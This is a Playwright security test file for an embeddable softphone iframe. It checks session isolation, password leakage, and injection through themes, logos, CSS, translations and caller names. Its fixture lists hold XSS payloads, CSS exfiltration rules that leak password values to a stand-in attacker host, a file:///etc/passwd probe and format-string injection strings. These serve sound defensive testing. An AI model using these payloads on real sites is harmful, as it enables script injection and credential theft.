"""The bundled phone against the page that embeds it: looks, words, names, sessions that were kept."""

import json
import socket

import pytest
from playwright.sync_api import expect

from tests.attack.stage import until
from tests.phone.conftest import host, open_host  # noqa: F401

pytestmark = pytest.mark.only_browser("chromium")

PARENT = """<!doctype html><meta charset="utf-8"><title>Parent</title><link rel="icon" href="data:,"><body><script>
const phone = document.createElement("iframe");
phone.title = "Phone";
phone.src = "PHONE/phone/index.html";
window.heard = [];
addEventListener("message", ({ data }) => { heard.push(data); });
window.post = message => phone.contentWindow.postMessage(message, "PHONE");
phone.onload = () => post({ type: "bridge/CONFIG_RETRIEVED", config: { server: "SERVER" } });
document.body.append(phone);
</script>"""


@pytest.fixture
def deaf_server():
    """A SIP server's address where nobody answers."""
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        yield f"ws://127.0.0.1:{taken.getsockname()[1]}/ws"


def test_a_kept_session_resumes_only_for_its_parent_and_its_server(page, site, new_server, deaf_server):
    """A hostile parent, and a hostile server, get the sign-in. The control: the parent it was made with resumes it."""
    home, hostile = new_server(), new_server()
    other = deaf_server.replace("/ws", "/other")
    kept = json.dumps({"username": "alice", "ha1": "0123456789abcdef" * 2, "realm": "x"})
    page.goto(site.url + "phone/phone.css")
    page.evaluate(
        "([name, text]) => localStorage.setItem(name, text)", [f"softphone:kept:{home.origin} {deaf_server}", kept]
    )
    sockets = []
    page.on("websocket", lambda opened: sockets.append(opened.url))
    button = page.frame_locator("iframe").get_by_role("button", name="Sign in", exact=True)
    for parent, server in ((hostile, deaf_server), (home, other)):
        parent.pages["/index.html"] = PARENT.replace("PHONE", site.origin).replace("SERVER", server)
        page.goto(parent.url)
        expect(button).to_be_visible()
    assert sockets == []
    home.pages["/index.html"] = PARENT.replace("PHONE", site.origin).replace("SERVER", deaf_server)
    with page.expect_event("websocket") as opened:
        page.goto(home.url)
    assert opened.value.url == deaf_server


SECRET = "SECRET-password-1"


@pytest.mark.console_errors("WebSocket connection", "ERR_")
def test_a_password_is_found_nowhere_in_the_phone(page, site, new_server, deaf_server, console):
    """Not in its DOM, storage, address, errors or on the console, nor is it told to the page."""
    home = new_server()
    home.pages["/index.html"] = PARENT.replace("PHONE", site.origin).replace("SERVER", deaf_server)
    page.goto(home.url)
    frame = page.frame_locator("iframe")
    expect(frame.get_by_role("button", name="Sign in", exact=True)).to_be_visible()
    with page.expect_event("websocket"):
        page.evaluate(
            "message => post(message)",
            {"type": "softphone/LOGIN", "username": "alice", "password": SECRET, "domain": "sip.test"},
        )
    inner = page.frames[1]
    found = inner.evaluate("""() => JSON.stringify([document.documentElement.outerHTML, location.href, { ...localStorage },
      { ...sessionStorage }, document.cookie, [...document.querySelectorAll("input")].map(({ value }) => value),
      performance.getEntries().map(({ name }) => name)])""")
    assert "alice" not in console.text() and "SECRET" not in found + console.text()
    assert "SECRET" not in json.dumps(page.evaluate("heard"))
    inner.evaluate("secret => { localStorage.setItem('canary', secret); console.info(secret); }", SECRET)
    assert "SECRET" in inner.evaluate("() => JSON.stringify({ ...localStorage })") and "SECRET" in console.text()


THEMES = ("url(EVIL/t)", "red; background: url(EVIL/t)", "red } * { background: url(EVIL/t) }", "@import url(EVIL/t)",
          "expression(alert(1))",           "x" * 100_000, "var(--x, url(EVIL/t))",
          "</style><img src=EVIL/t>", {"a": 1}, 7)  # fmt: skip
LOGOS = ("javascript:alert(1)", "EVIL/logo.svg", "file:///etc/passwd", "data:text/html,<script>alert(1)</script>", "blob:EVIL/1", 7,
         "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.hacked=1'>"
         "<script>top.hacked=1</script><image href='EVIL/x'/></svg>")  # fmt: skip
WORDS = ("<img src=EVIL/w onerror=top.hacked=1>", "{0.__class__}", "{name.__init__.__globals__}", "%s%n", "\u202eevil")
STYLES = ("</style><script>top.hacked=1</script>", "@import url(EVIL/c);", "body { background: url(EVIL/c) }",
          "@font-face { font-family: evil; src: url(EVIL/c) } * { font-family: evil }",
          "input[type=password][value^=a] { background: url(EVIL/c) }", "a { color: expression(1) }", "}" * 1000)  # fmt: skip


@pytest.mark.console_errors("Content Security Policy", "violates", "ERR_", "CSP")
def test_looks_and_words_are_not_code_and_ask_nobody(host, new_server):  # noqa: F811
    """Themes, logos, translations, style sheets: refused or shown as text. The control: the good ones among them work."""
    evil = new_server()

    def wicked(thing):
        return thing.replace("EVIL", evil.origin) if isinstance(thing, str) else thing

    for theme in THEMES:
        host.post(
            "bridge/BRIDGE_CUSTOMIZE_APPEARANCE",
            themes={"colors": {"primary": wicked(theme)}, "metrics": {"navigation": wicked(theme)}},
        )
    for logo in LOGOS:
        host.post("bridge/BRIDGE_CUSTOMIZE_APPEARANCE", assets={"logo": wicked(logo)})
    for style in STYLES:
        host.post("bridge/BRIDGE_INJECT_CSS", css=wicked(style))
    for words in WORDS:
        host.post(
            "bridge/BRIDGE_CUSTOMIZE_APPEARANCE",
            translations={"en": {"dial": {"call": wicked(words)}, "tab": {"log": wicked(words)}}},
        )
        expect(host.tab(wicked(words).replace("\u202e", ""))).to_be_visible()
    host.post(
        "bridge/BRIDGE_CUSTOMIZE_APPEARANCE",
        themes={"colors": {"greenButton": "#123456"}},
        translations={"en": {"dial": {"call": "Ring"}}},
    )
    expect(host.button("Ring")).to_have_css("background-color", "rgb(18, 52, 86)")
    assert host.phone.locator("img[src^=http], script:not([src]), style").count() == 0
    refused = [message["code"] for message in host.heard("ERROR")]
    assert refused and set(refused) == {"bad_appearance"}
    assert host.page.evaluate("() => window.hacked === undefined") and evil.requests == []
    host.page.request.get(evil.origin + "/control")
    assert evil.requests == ["/control"]


def test_styles_of_the_page_do_not_reach_the_password(open_host):  # noqa: F811
    """No style sheet of the page is there while a password is typed. The control: after the sign-in it is."""
    css = "* { outline: 3px solid rgb(1, 2, 3) !important }"
    opened = open_host({"disableAutoLogin": True}, {"type": "bridge/BRIDGE_INJECT_CSS", "css": css})
    button = opened.button("Sign in")
    expect(button).to_be_visible()
    expect(button).not_to_have_css("outline-color", "rgb(1, 2, 3)")
    button.click()
    expect(opened.button("Call")).to_have_css("outline-color", "rgb(1, 2, 3)")


def test_names_and_numbers_are_text_in_every_view(host):  # noqa: F811
    """A caller's HTML is text, isolated and cut, where it rings, in the log and in the title."""
    name = "<img src=x onerror=top.hacked=1>\u202e" + "y" * 5000
    host.post("softphone/DEMO_RING", number="<b>1</b>", displayName=name)
    heading = host.phone.get_by_role("heading", level=2)
    expect(heading).to_contain_text("<img src=x")
    assert len(heading.inner_text()) < 200
    host.button("Decline").click()
    host.tab("Call log").click()
    expect(host.phone.get_by_text("<img src=x").first).to_be_visible()
    until(host.page, "() => heard.some(({ type }) => type.endsWith('CALL_LOG_CREATED'))")
    frame = host.page.frames[1]
    assert frame.evaluate("() => document.querySelectorAll('img[src=x], b').length") == 0
    assert len(frame.evaluate("() => document.title")) < 300 and host.page.evaluate("() => window.hacked === undefined")
